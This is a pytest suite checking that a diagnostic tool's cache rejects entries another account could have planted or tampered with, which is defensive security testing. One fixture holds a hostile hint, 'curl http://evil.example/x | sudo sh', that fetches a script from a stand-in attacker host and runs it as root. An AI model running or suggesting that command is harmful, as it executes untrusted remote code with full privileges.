"""The cache ($XDG_CACHE_HOME/ascend-doctor) holds the matrix rows check judges by and the
catalogue whose hints it prints: an entry another account could write is not the doctor's own
(a shared or world-writable cache home, a root run with a user's $HOME) and is never read, and
no entry is written where it would not be read (issue 21, attack pass on the cache)."""
from __future__ import annotations

import json
import os

import pytest

from doctor import i18n
from doctor.matrix import load as matrix_load
from doctor.shell.host import cache
import doctor_fork

MATRIX = """schema_version = 1

[[threshold]]
name = "a"
version = "1.0"
meaning = "m"
source = "https://example.org/a"
"""
PLANTED_ROWS = {"threshold": [[{"name": "a", "version": "666.0", "meaning": "m", "source": "s"}, "o"]]}
CATALOGUE = '[m.hint]\nen = "pip install torch"\nzh = "pip install torch"\n'
EVIL = {"m.hint": {"en": "curl http://evil.example/x | sudo sh", "zh": "curl http://evil.example/x | sudo sh"}}


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path


def _plant(kind: str, k: str, data, *, file_mode=0o644, dir_mode=0o755, top_mode=0o755, owner=None):
    top = cache.xdg.cache_dir()
    d = top / kind
    d.mkdir(parents=True, exist_ok=True)
    entry = d / f"{k}.json"
    entry.write_text(json.dumps(data))
    os.chmod(entry, file_mode)
    os.chmod(d, dir_mode)
    os.chmod(top, top_mode)
    if owner is not None:
        os.chown(entry, owner, owner)
    return entry


def _rows_key(path):
    return cache.key("rows by identity", str(path), matrix_load._identity(path))


def _catalogue_key(path):
    return cache.key("i18n", i18n.identities([path]))


# how another account's entry comes to be there: its own file (root only can make one in a
# test), or a file or directory it can write
HOSTILE = [dict(file_mode=0o666), dict(file_mode=0o664), dict(dir_mode=0o757), dict(top_mode=0o777)]
if os.geteuid() == 0:
    HOSTILE.append(dict(owner=4242))


@pytest.mark.parametrize("how", HOSTILE, ids=lambda h: ",".join(f"{k}={v:o}" for k, v in h.items()))
def test_rows_planted_by_another_account_are_not_judged_by(home, how):
    path = home / "m.toml"
    path.write_text(MATRIX)
    _plant("matrix", _rows_key(path), PLANTED_ROWS, **how)
    assert [t.version for t in matrix_load.parse_file(path, cache)["threshold"]] == ["1.0"]


@pytest.mark.parametrize("how", HOSTILE, ids=lambda h: ",".join(f"{k}={v:o}" for k, v in h.items()))
def test_a_hint_planted_by_another_account_is_never_printed(home, how):
    src = home / "m.toml"
    src.write_text(CATALOGUE, encoding="utf-8")
    _plant("i18n", _catalogue_key(src), EVIL, **how)
    assert i18n.load_cached([src], cache)["m.hint"]["en"] == "pip install torch"


def test_the_users_own_entry_is_still_read(home):
    """The control: the same entry, the user's own and writable by no one else, is read (so
    the tests above fail for the reason they name)."""
    src = home / "m.toml"
    src.write_text(CATALOGUE, encoding="utf-8")
    _plant("i18n", _catalogue_key(src), EVIL)
    assert "evil" in i18n.load_cached([src], cache)["m.hint"]["en"]


def test_nothing_is_written_into_a_directory_another_account_can_write(home):
    top = cache.xdg.cache_dir()
    top.mkdir(parents=True)
    os.chmod(top, 0o777)
    cache.write("matrix", cache.key("x"), {"a": 1})
    assert not (top / "matrix").exists() or not any((top / "matrix").iterdir())


def test_the_directories_it_makes_are_its_own_whatever_the_umask(home):
    old = os.umask(0o002)  # one group per user: group-writable by default
    try:
        cache.write("matrix", cache.key("x"), {"a": 1})
    finally:
        os.umask(old)
    assert cache.read("matrix", cache.key("x")) == {"a": 1}
    assert not os.stat(cache.xdg.cache_dir() / "matrix").st_mode & 0o022


@pytest.mark.parametrize("entry", [{}, {"m.hint": 1}, {"m.hint": {"en": "x"}}, {"m.hint": {"en": 1, "zh": "x"}}, [1], "s"])
def test_a_catalogue_entry_that_is_not_a_catalogue_is_a_miss(home, entry):
    """An own entry cut short or edited by hand: ``{}`` made every command end in
    "internal error: CatalogueError"."""
    src = home / "m.toml"
    src.write_text(CATALOGUE, encoding="utf-8")
    _plant("i18n", _catalogue_key(src), entry)
    assert i18n.load_cached([src], cache) == {"m.hint": {"en": "pip install torch", "zh": "pip install torch"}}


def test_a_home_that_does_not_exist_is_not_made_and_there_is_no_cache(tmp_path, monkeypatch):
    """$HOME names a directory that does not exist (a system account's /nonexistent) and no
    XDG_CACHE_HOME: the cache makes nothing (not the home, not ~/.cache) and reads nothing."""
    import sys

    missing = tmp_path / "nonexistent"
    monkeypatch.setenv("HOME", str(missing))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    cache.write("matrix", cache.key("x"), {"a": 1})
    assert not missing.exists() and cache.read("matrix", cache.key("x")) is None
    # a whole check (it writes the catalogue and the matrix rows to the cache) leaves it missing too
    env = {"PATH": os.environ["PATH"], "HOME": str(missing), "LANG": "C.UTF-8"}
    proc = doctor_fork.run([sys.executable, "-m", "doctor", "check", "--site-packages", str(tmp_path)], env=env,
                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert proc.returncode in (0, 3, 4) and "Traceback" not in proc.stderr, proc.stderr[-1000:]
    assert not missing.exists()


def test_a_missing_cache_home_below_an_existing_home_is_made(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    cache.write("matrix", cache.key("x"), {"a": 1})
    assert cache.read("matrix", cache.key("x")) == {"a": 1}
    assert not os.stat(tmp_path / ".cache").st_mode & 0o077
